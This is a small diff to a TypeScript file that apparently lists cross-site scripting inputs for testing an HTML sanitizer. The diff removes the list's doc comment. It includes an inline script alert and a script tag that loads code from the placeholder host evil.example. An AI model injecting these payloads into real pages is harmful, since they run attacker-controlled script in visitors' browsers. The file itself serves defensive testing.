@@ -1,4 +1,3 @@
-/** HTML that would run a script, load a resource from another host, or break the page. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
